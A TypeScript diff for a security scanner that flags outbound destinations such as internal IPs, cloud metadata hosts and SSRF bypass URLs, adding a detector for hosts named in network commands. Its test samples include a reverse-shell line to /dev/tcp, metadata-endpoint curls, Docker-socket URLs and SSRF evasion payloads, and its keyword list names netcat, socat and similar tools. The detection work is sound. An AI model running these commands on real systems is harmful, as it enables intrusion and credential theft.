@@ -3,10 +3,13 @@
 import type { Finding, PatternDetector, Severity } from '../detector.js';
 import type { Scanner } from '../scanner.js';
 import type { Reason } from './address.js';
-import { findDestinations } from './destinations.js';
+import { findHostsInCommands } from './bare-hosts.js';
+import type { Destination } from './destination.js';
+import { findMarked } from './destinations.js';
 
 export type { Reason } from './address.js';
-export { type Destination, findDestinations } from './destinations.js';
+export type { Destination } from './destination.js';
+export { findDestinations } from './destinations.js';
 export { classifyHost } from './host.js';
 
 export const egressDetectors: readonly PatternDetector[] = [];
@@ -34,14 +37,15 @@ const destinations: Scanner = {
     ...[':', '%', '[', '//', '\\\\', '/\\', '\\/', 'localhost', 'metadata'],
     ...[...'0abcdefghijklmnopqrstuvwxyz'].map((unit) => `.${unit}`),
   ],
-  find(text) {
-    const findings: Finding[] = [];
-    for (const { start, end, reason } of findDestinations(text)) {
-      if (reason !== undefined)
-        findings.push({ kind: 'egress', detector: reason, severity: SEVERITY[reason], start, end });
-    }
-    return findings;
-  },
+  // What a URL, a host with a port or a path, cannot do without.
+  literals: [
+    ...[':/', ':\\', ':[', ':%', ':localhost', 'http:', 'https:', '%3a%2f', '%3a%5c', '%2f%2f', '%5c%5c'],
+    ...['//', 'localhost', ']:', ']/', '.0x', ...'0123456789'].flatMap((sign) =>
+      sign.length === 1 ? [`${sign}:`, `${sign}/`] : [sign],
+    ),
+  ],
+  reach: 64,
+  find: (text, from, to) => toFindings(findMarked(text, from, to)),
   samples: {
     hit: [
       'http://127.0.0.1/',
@@ -58,6 +62,16 @@ const destinations: Scanner = {
       'gopher://example.com/_x',
       'curl 169.254.169.254/latest/meta-data/',
       'https://example.com/?next=http://10.0.0.1/',
+      'https://example.com/redirect?to=//169.254.169.254/',
+      'http://0127.0.0.1/',
+      'http://127.0.0.1%00.example.com/',
+      'http://192.0.0.192/latest/',
+      'http://consul.service.consul/',
+      'http://unix:/var/run/docker.sock:/info',
+      'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1',
+      'http:127.0.0.1/x',
+      'see 1http://10.0.0.1/',
+      '<img src="//10.0.0.1/x.png">',
     ],
     miss: [
       'http://127.0.0.1@example.com/',
@@ -72,5 +86,26 @@ const destinations: Scanner = {
   },
 };
 
-/** What has no literal to wait for. */
-export const egressScanners: readonly Scanner[] = [destinations];
+/** Hosts without any mark, where a command says that they are hosts. */
+const commandDestinations: Scanner = {
+  name: 'command-destinations',
+  kind: 'egress',
+  literals: [
+    ...['curl', 'wget', 'nc ', 'ncat', 'netcat', 'telnet', 'ssh ', 'scp ', 'sftp', 'ping ', 'nmap', 'http '],
+    ...['https ', 'xh ', 'rsync', 'socat', 'dig ', 'nslookup'],
+  ],
+  reach: 320,
+  needs: ['.0', '[', 'localhost', 'metadata'],
+  find: (text, from, to) => toFindings([...findHostsInCommands(text, from, to)]),
+  samples: {
+    hit: ['ping -c1 10.0.0.5', 'run: ssh -p 22 localhost', 'nslookup metadata.google.internal'],
+    miss: ['ping 8.8.8.8', 'shopping 10.0.0.5', 'the address 10.0.0.5 is private'],
+  },
+};
+
+const toFindings = (found: readonly Destination[]): Finding[] =>
+  found.flatMap(({ start, end, reason }) =>
+    reason === undefined ? [] : { kind: 'egress', detector: reason, severity: SEVERITY[reason], start, end },
+  );
+
+export const egressScanners: readonly Scanner[] = [destinations, commandDestinations];
